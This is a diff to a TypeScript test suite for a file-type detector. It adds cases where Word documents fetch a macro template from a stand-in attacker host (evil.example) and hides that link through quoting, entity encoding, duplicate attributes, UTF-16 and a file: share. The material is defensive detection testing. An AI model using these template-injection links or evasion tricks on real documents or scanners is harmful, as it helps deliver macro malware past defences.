@@ -10,8 +10,9 @@ const kindOf = (bytes: Uint8Array) => documentKind(bytes, inflate)
 
 const MACRO_TYPE = 'application/vnd.ms-word.document.macroEnabled.main+xml'
 const SHEET_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'
-const FETCHED =
-  '<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
+const TEMPLATE =
+  'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate'
+const FETCHED = `<Relationship Type="${TEMPLATE}" Target="https://evil.example/t.dotm" TargetMode="External"/>`
 
 /** An archive whose files begin so many bytes later, behind something that no directory speaks of. */
 function behind(prefix: Buffer, archive: Buffer): Buffer {
@@ -63,6 +64,26 @@ describe('what a file is', () => {
     ['by a template from elsewhere', aDocx({ 'word/_rels/settings.xml.rels': FETCHED })],
   ])('holds macros %s', (_name, bytes) => {
     expect(kindOf(bytes)).toBe('macros')
+  })
+
+  it.each([
+    ['in single quotes', FETCHED.replaceAll('"', "'")],
+    ['behind spaces', FETCHED.replaceAll('=', ' = ')],
+    ['of a share', FETCHED.replace('https:', 'file:')],
+    ['in numbers', FETCHED.replace('attached', '&#97;tt&#x61;ched')],
+    ['beside one of its own', FETCHED.replace(' Target=', ' x="a" Target="/word/t.dotx" Target=')],
+    ['behind a link to a page', `<Relationship Target="https://cv.example"/>${FETCHED}`],
+    ['in two bytes a letter', Buffer.from(FETCHED, 'utf16le').toString('latin1')],
+  ])('holds macros by a template from elsewhere that is named %s', (_name, links) => {
+    expect(kindOf(aDocx({ 'word/_rels/settings.xml.rels': links }))).toBe('macros')
+    expect(kindOf(aDocx({ 'word/_rels/Settings2.xml.rels': links }))).toBe('macros')
+  })
+
+  it('is a document where it was written with a template of its own machine, and links to pages', () => {
+    const own = FETCHED.replace('https://evil.example/', 'file:///C:\\Users\\Ana\\')
+    const page = '<Relationship Target="https://cv.example/ana&#39;s" TargetMode="External"/>'
+    expect(kindOf(aDocx({ 'word/_rels/settings.xml.rels': own }))).toBe('docx')
+    expect(kindOf(aDocx({ 'word/_rels/document.xml.rels': page + page }))).toBe('docx')
   })
 
   it('is nothing where it is two things at once', () => {
